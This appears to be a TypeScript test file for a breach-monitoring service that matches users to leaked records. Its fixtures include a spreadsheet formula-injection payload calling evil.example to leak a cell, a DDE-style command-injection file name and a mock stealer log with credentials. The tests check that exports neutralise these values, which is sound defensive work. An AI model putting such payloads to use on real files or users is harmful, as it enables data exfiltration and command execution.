import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { openTestPglite } from "../../testing/databases.ts";
import type { Person } from "../identity/testing/identity-app.ts";
import type { ScannerApp } from "../scanner/testing/scanner-app.ts";
import { corpusApp, takenIn } from "./testing/corpus-app.ts";
import { type InboxStage, inboxStage } from "./testing/inbox-stage.ts";

const json = (rows: readonly object[]) => rows.map((row) => `${JSON.stringify(row)}\n`).join("");
const formula = '=HYPERLINK("http://evil.example/?"&A1;"x")';
const formulaName = "2026-03-01 =cmd|' ⁄C calc'!A0.csv";
const featherstone = { kind: "name", value: "Ottoline Featherstonehaugh" };
const zabel = { name: "Quirinus Zabel", city: "Testville" };

/** The identifiers that each person watches besides their address. */
const watching: Readonly<Record<string, readonly object[]>> = {
	ann: [{ kind: "username", value: "ann_the_first" }],
	cleo: [{ kind: "username", value: "cleo.quist" }],
	dora: [],
	ottoline: [{ ...featherstone, city: "Sampleton", birth_year: 1981 }],
	namesake: [{ ...featherstone, city: "Elsewhere", birth_year: 1950 }],
	quirinus: [{ kind: "name", value: zabel.name, city: zabel.city }],
	fay: [{ kind: "username", value: "fay_of_fife" }],
	gus: [],
	mal: [],
	pat: [{ kind: "phone", value: "+44 20 7946 0958" }],
};

/** Files for the inbox, some with a side file. */
const files: Readonly<Record<string, { readonly content: string; readonly wishes?: object }>> = {
	"dark_web/2026-03-01 Cloud of logs.txt": {
		content:
			"https://shop.example.com/login:ann@example.com:hunter2\nhttps://forum.example.org/:ann_the_first:hunter3\nhttps://x.example/:bob@example.com:x\n",
		wishes: { keepValues: true, dataClasses: ["Email addresses", "Passwords", "Website activity"] },
	},
	"social/Profiles.jsonl": {
		content: json([
			{ handle: "dora99", email: "Dora@Example.com" },
			{ ...featherstone, name: featherstone.value, city: "Sampleton", dob: "1981-04-05" },
		]),
		wishes: { names: true, keepValues: true },
	},
	"social/Handles.csv": { content: "handle,bio\nCleo.Quist,hello\n" },
	"social/Numbers.csv": {
		content: "phone,city\n(020) 7946-0958,London\n",
		wishes: { phoneCountry: "44" },
	},
	"social/More profiles.jsonl": { content: json([zabel, { email: "quirinus@example.com" }]) },
	"paste/Notes.txt": {
		content: "spoke to Fay <fay@example.com> today;\nlogin: fay_of_fife, she said\n",
	},
	"breach/Adobe.csv": { content: "email,username\ngus@example.com,gus\n" },
	[`breach/${formulaName}`]: {
		content: `email,name,city\nmal@example.com,"${formula.replaceAll('"', '""')}",@SUM(1)\n`,
		wishes: { keepValues: true },
	},
};

// match-corpus.db.test.ts tests the database side on both databases.
describe("a file in the inbox becomes exposures", () => {
	let stage: InboxStage;
	let app: ScannerApp;
	let close: () => Promise<void>;
	const people: Record<string, Person> = {};
	beforeAll(async () => {
		stage = inboxStage();
		const database = await openTestPglite();
		close = database.close;
		app = await corpusApp(database, stage);
		for (const [name, watched] of Object.entries(watching)) {
			const person = await app.person(`${name}@example.com`);
			people[name] = person;
			for (const identifier of watched)
				expect((await app.api(person, "POST", "/identifiers", identifier)).status).toBe(201);
		}
		await confirmNumber(who("pat"));
		// From here on, new data counts as news.
		const looked = () => app.rows("select corpus from private.matched_ingests");
		await vi.waitFor(async () => expect(await looked()).toHaveLength(1), { timeout: 40_000, interval: 25 });
		for (const [name, { content, wishes }] of Object.entries(files)) {
			if (wishes) stage.put(`${name}.json`, JSON.stringify(wishes));
			stage.put(name, content);
		}
	});
	afterAll(async () => {
		await app.stop();
		await close();
		stage.remove();
	});
	const who = (name: string) => people[name] as Person;
	const confirmNumber = async (person: Person) => {
		const { identifiers } = (await app.api(person, "GET", "/identifiers")).body;
		const { id } = identifiers.find(({ kind }: { kind: string }) => kind === "phone");
		const code = /\b(\d{6})\b/.exec(app.sms.sent.at(-1)?.text ?? "")?.[1];
		expect((await app.api(person, "POST", `/identifiers/${id}/verify`, { code })).status).toBe(200);
	};
	/** Waits for the scans that the files caused. */
	const exposuresOf = async (name: string) => {
		for (const file of Object.keys(files)) await takenIn(stage, file);
		const person = who(name);
		const scans = async () =>
			app.rows("select distinct started_by, status from private.scan_tasks where user_id = $1", [person.id]);
		await expect
			.poll(scans, { timeout: 40_000, interval: 25 })
			.toEqual([{ started_by: "new_breach", status: "completed" }]);
		const found = await app.exposures(person);
		return Promise.all(
			found.map(async ({ id }) => (await app.api(person, "GET", `/exposures/${id}`)).body.exposure),
		);
	};
	const reveal = async (name: string, id: string) => {
		const { password } = who(name);
		const answer = await app.api(who(name), "POST", `/exposures/${id}/reveal`, { password });
		expect(answer.status).toBe(200);
		return answer.body.exposed_data;
	};
	const kinds = ({ matched_by }: { matched_by: { kind: string }[] }) =>
		matched_by.map(({ kind }) => kind).sort();

	it("from a log of stealer malware: on dark web markets, by address and by log-in", async () => {
		const [exposure, ...others] = await exposuresOf("ann");
		expect(others).toEqual([]);
		expect(exposure).toMatchObject({
			source_type: "dark_web_markets",
			title: "Cloud of logs",
			breach_date: "2026-03-01",
			severity: "critical",
		});
		expect(kinds(exposure)).toEqual(["email", "username"]);
		const shown = JSON.stringify(await reveal("ann", exposure.id));
		expect(shown).toContain("shop.example.com");
		expect(shown, "no password, and nothing of what the user name alone found").not.toMatch(/hunter|forum/);
	});

	it.each([
		["by address, however it is written", "dora", "Profiles", "email"],
		["by name where the rest of the record fits", "ottoline", "Profiles", "name"],
		["by a handle", "cleo", "Handles", "username"],
		["by a number that was confirmed, however it is written", "pat", "Numbers", "phone"],
	])("from leaked profiles: as social media, %s", async (_how, name, title, kind) => {
		const [exposure] = await exposuresOf(name);
		expect(exposure).toMatchObject({ source_type: "social_media", title });
		expect(kinds(exposure)).toEqual([kind]);
		if (kind === "username") expect(exposure.confidence_score, "others may have it too").toBeLessThan(0.9);
	});

	it("from leaked profiles: not for a person with the same name who lives elsewhere and is older", async () => {
		expect(await exposuresOf("namesake")).toEqual([]);
	});

	it("from profiles that do not count names: nobody is found by their name", async () => {
		const [exposure] = await exposuresOf("quirinus");
		expect(kinds(exposure)).toEqual(["email"]);
		expect(stage.report("done/social/More profiles.jsonl").skipped).toEqual({ no_identifier: 1 });
	});

	it("from a paste: out of any text", async () => {
		const [exposure] = await exposuresOf("fay");
		expect(exposure).toMatchObject({ source_type: "paste_sites", title: "Notes" });
		expect(kinds(exposure)).toEqual(["email", "username"]);
	});

	it("from a table named after a breach of the catalogue: as that breach", async () => {
		const [exposure] = await exposuresOf("gus");
		expect(exposure).toMatchObject({ source_type: "breach_databases", title: "Adobe", domain: "adobe.com" });
		expect(exposure.about_attribution.text).toMatch(/Have I Been Pwned/);
	});

	it("from cells with formulas: complete on screens, harmless in a spreadsheet", async () => {
		const [exposure] = await exposuresOf("mal");
		expect(exposure.title).toBe("=cmd|' ⁄C calc'!A0");
		expect(await reveal("mal", exposure.id)).toMatchObject({ name: formula, location: "@SUM(1)" });
		for (const path of ["/report?format=csv", `/exposures/${exposure.id}/export?format=csv`]) {
			const { status, raw, headers } = await app.api(who("mal"), "GET", path);
			expect(status, path).toBe(200);
			expect(headers["content-type"]).toMatch(/^text\/csv/);
			for (const cell of raw.toString().split(/\r\n|,/)) expect(cell).not.toMatch(/^"?\s*[=+\-@]/);
		}
	});
});
